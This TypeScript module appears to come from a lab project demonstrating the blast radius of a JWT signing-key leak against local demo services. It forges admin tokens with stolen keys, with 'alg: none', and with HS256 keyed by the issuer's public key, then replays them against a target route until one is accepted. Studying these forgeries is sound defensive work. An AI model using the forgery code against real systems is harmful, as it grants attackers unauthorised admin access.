import { setTimeout as sleep } from 'node:timers/promises';
import type { AppName, JsonWebKeySet } from '@jwt-blast-radius/keys';
import { fetchWithin } from '@jwt-blast-radius/process';
import { accessTokenClaims, signWithJwk, signWithPublicKeyAsSecret, unsecuredToken } from '@jwt-blast-radius/attacker';
import { issuerIn, signingKeysIn, type Loot } from '@jwt-blast-radius/stack';
import { FORGED_IDENTITY, HARVESTED_USER } from '../targets';

/** One token the attacker tries, and how it was made. */
export interface Forgery {
  readonly via: string;
  readonly token: string;
}

/**
 * Every admin token the loot lets an attacker mint for a target: one per secret or private key it
 * holds, with that key's kid, plus the two tricks that need no key at all (`alg: none`, and HS256 with
 * the issuer's published public key as the secret), which a correct verifier refuses.
 *
 * @example
 * const forgeries = await forgeAdminTokens(loot, 'mobile-api', publicJwks);
 */
export async function forgeAdminTokens(loot: Loot, target: AppName, published: JsonWebKeySet | undefined): Promise<Forgery[]> {
  const claims = accessTokenClaims({
    iss: issuerIn(loot),
    aud: target,
    ...FORGED_IDENTITY,
    roles: [...FORGED_IDENTITY.roles],
  });
  const forgeries: Forgery[] = [];
  const stolen = signingKeysIn(loot);
  for (const jwk of stolen) {
    forgeries.push({ via: `key ${jwk.kid ?? '(no kid)'}`, token: await signWithJwk(jwk, claims) });
  }
  const publicKeys = published?.keys ?? [];
  forgeries.push({ via: 'alg none', token: unsecuredToken(claims, { kid: publicKeys[0]?.kid ?? stolen[0]?.kid }) });
  for (const jwk of publicKeys) {
    forgeries.push({ via: `HS256 with public key ${jwk.kid ?? ''}`.trim(), token: await signWithPublicKeyAsSecret(jwk, claims) });
  }
  return forgeries;
}

/** What a target answered to a token. */
export interface Answer {
  readonly status: number;
  readonly accepted: boolean;
  /** The token that was accepted, or the first one refused. */
  readonly via?: string;
  /** Every token sent, in order, up to the accepted one. */
  readonly tried: readonly string[];
}

/**
 * Sends each token to the route until one is accepted; answers with the accepted one, or the first refusal.
 *
 * @example
 * await tryTokens('http://127.0.0.1:3001/dashboard/admin', forgeries);
 */
export async function tryTokens(url: string, tokens: readonly Forgery[]): Promise<Answer> {
  let first: Answer | undefined;
  const tried: string[] = [];
  for (const { via, token } of tokens) {
    const response = await fetchWithin(10_000, url, { headers: { authorization: `Bearer ${token}` } });
    tried.push(via);
    if (response.ok) return { status: response.status, accepted: true, via, tried };
    first ??= { status: response.status, accepted: false, via, tried };
  }
  return first ?? { status: 0, accepted: false, tried };
}

/** The longest `Retry-After` a login waits out; a longer one fails the login. */
const MAX_LOGIN_WAIT_SECONDS = 120;

/**
 * Logs the demo user in for one audience: the token that audience's service has seen. A 429 from the login door
 * (a stack that already served logins this minute, say) is waited out as its `Retry-After` says, up to two minutes,
 * saying so through `progress`; any other refusal fails.
 *
 * @example
 * const token = await harvestToken('http://127.0.0.1:3000', 'dashboard-api');
 */
export async function harvestToken(authUrl: string, audience: AppName, progress: (line: string) => void = () => {}): Promise<string> {
  for (;;) {
    const response = await fetchWithin(10_000, `${authUrl}/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ ...HARVESTED_USER, audience }),
    });
    if (response.ok) return ((await response.json()) as { access_token: string }).access_token;
    const wait = Number(response.headers.get('retry-after'));
    if (response.status !== 429 || !(wait >= 0 && wait <= MAX_LOGIN_WAIT_SECONDS)) {
      throw new Error(`login for ${audience} answered ${response.status}`);
    }
    progress(`the login door answered 429 for ${audience}: waiting ${wait} s, as its Retry-After says`);
    await sleep(Math.max(wait, 1) * 1000);
  }
}

/** The issuer's published JWKS, or undefined where the mode publishes none (a 404). */
export async function fetchPublishedJwks(authUrl: string): Promise<JsonWebKeySet | undefined> {
  const response = await fetchWithin(10_000, `${authUrl}/.well-known/jwks.json`);
  return response.ok ? ((await response.json()) as JsonWebKeySet) : undefined;
}
